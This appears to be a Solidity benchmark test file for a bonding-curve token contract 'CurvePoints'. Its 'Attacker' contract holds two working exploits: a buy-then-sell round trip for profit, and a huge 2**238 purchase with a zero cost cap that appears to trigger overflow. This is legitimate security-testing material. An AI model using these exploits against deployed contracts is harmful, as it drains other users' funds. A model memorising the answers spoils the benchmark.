// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./CurvePoints.sol";

// assay-canary-2b301b86-ccdc-40de-acf4-10fd7eb89b6e

interface Vm {
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Cash is ERC20("Cash", "CASH") {
    address private maker = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "maker");
        _mint(to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_700_000_000;

    Cash private money;
    CurvePoints private curve;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        money = new Cash();
        curve = new CurvePoints(money);
        address[2] memory all = [ANA, BEN];
        for (uint256 i = 0; i < 2; i++) {
            money.mint(all[i], 100_000e18);
            vm.startPrank(all[i]);
            money.approve(address(curve), type(uint256).max);
            curve.buy(150, type(uint256).max, START);
            vm.stopPrank();
        }
        mallory = new Attacker(curve, money);
        money.mint(address(mallory), 120_000e18);
    }

    function test_Regular() public {
        require(money.balanceOf(address(curve)) == curve.cost(0, 300), "all points");
        uint256 before = money.balanceOf(ANA);
        vm.startPrank(ANA);
        uint256 paid = curve.buy(10, 4_100e18, START);
        require(paid == 4_050e18 && before - money.balanceOf(ANA) == paid, "paid");
        curve.transfer(BEN, 5);
        curve.approve(BEN, 5);
        curve.increaseAllowance(BEN, 2);
        curve.decreaseAllowance(BEN, 2);
        vm.stopPrank();
        vm.startPrank(BEN);
        curve.transferFrom(ANA, BEN, 5);
        uint256 got = curve.sell(10, 3_900e18, START);
        vm.stopPrank();
        require(got > 0 && curve.totalSupply() == 300 && curve.made() == 300, "sold");
    }

    function test_RefusesBuying() public {
        vm.startPrank(ANA);
        vm.expectRevert(Zero.selector);
        curve.buy(0, 1, START);
        vm.expectRevert(Slip.selector);
        curve.buy(10, 4_000e18, START);
        vm.expectRevert(Late.selector);
        curve.buy(10, 4_100e18, START - 1);
        vm.stopPrank();
        vm.expectRevert(Zero.selector);
        new CurvePoints(IERC20(address(0)));
    }

    function test_RefusesSelling() public {
        vm.startPrank(ANA);
        vm.expectRevert(Zero.selector);
        curve.sell(0, 0, START);
        vm.expectRevert(Slip.selector);
        curve.sell(10, 5_000e18, START);
        vm.expectRevert(Late.selector);
        curve.sell(10, 0, START - 1);
        vm.expectRevert();
        curve.sell(151, 0, START);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(money.balanceOf(address(mallory)) >= 139_000e18, "nothing gained");
    }

    function exploit2() public {
        mallory.wrap();
    }

    function test_Exploit2() public {
        exploit2();
        require(money.balanceOf(address(mallory)) >= 160_000e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(curve);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function cash() public view returns (address) {
        return address(money);
    }
}

contract Attacker {
    CurvePoints private curve;
    Cash private money;

    constructor(CurvePoints c, Cash m) {
        curve = c;
        money = m;
    }

    function run() external {
        money.approve(address(curve), type(uint256).max);
        curve.buy(200, type(uint256).max, block.timestamp);
        curve.sell(200, 0, block.timestamp);
    }

    function wrap() external {
        curve.buy(2 ** 238, 0, block.timestamp);
        curve.sell(150, 0, block.timestamp);
    }
}
